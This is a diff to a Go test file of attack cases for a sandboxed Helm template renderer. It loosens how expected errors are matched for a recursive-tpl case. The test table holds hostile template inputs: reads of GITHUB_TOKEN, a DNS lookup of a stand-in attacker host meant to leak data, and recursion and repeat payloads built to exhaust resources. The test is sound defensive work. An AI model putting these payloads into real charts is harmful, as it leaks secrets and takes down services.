@@ -9,6 +9,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -139,7 +140,7 @@ func TestAttacks(t *testing.T) {
 		{"a template reads the environment", "helm", fast, chartOf(`{{ env "GITHUB_TOKEN" }}`), nil, `function "env" not defined`},
 		{"a template expands the environment", "helm", fast, chartOf(`{{ expandenv "$GITHUB_TOKEN" }}`), nil, `function "expandenv" not defined`},
 		{"a template looks up a host", "helm", fast, chartOf(`{{ getHostByName "token.attacker.example" | quote }}`), nil, ""},
-		{"a template calls itself by tpl", "helm", short, chartOf(`{{ define "f" }}{{ tpl "{{ include \"f\" . }}" . }}{{ end }}{{ include "f" . }}`), nil, "stopped after 1 s (--timeout)"},
+		{"a template calls itself by tpl", "helm", short, chartOf(`{{ define "f" }}{{ tpl "{{ include \"f\" . }}" . }}{{ end }}{{ include "f" . }}`), nil, "error calling tpl|stopped after 1 s (--timeout)"}, // Helm's own bound, or time on a slow machine
 		{"a template includes itself", "helm", fast, chartOf(`{{ define "f" }}{{ template "f" . }}{{ end }}{{ template "f" . }}`), nil, "exceeded maximum template depth"},
 		{"a template repeats a text 100 thousand million times", "helm", fast, chartOf(`{{ repeat 100000000000 "x" }}`), nil, ""},
 		{"a template repeats repeats", "helm", fast, chartOf(`{{ repeat 100000 (repeat 100000 "x") }}`), nil, "needed more than 512 MiB"},
@@ -241,7 +242,7 @@ func TestAttacks(t *testing.T) {
 			switch {
 			case strings.Contains(said, token) || strings.Contains(said, outside) || strings.Contains(said, "root:x:"):
 				t.Errorf("it sees what it must not: %.200s", said)
-			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
+			case tt.want != "" && (err == nil || !slices.ContainsFunc(strings.Split(tt.want, "|"), func(want string) bool { return strings.Contains(err.Error(), want) })):
 				t.Errorf("got %.300v, want %q", err, tt.want)
 			case len(said) > 100<<10:
 				t.Errorf("it says %d bytes", len(said))
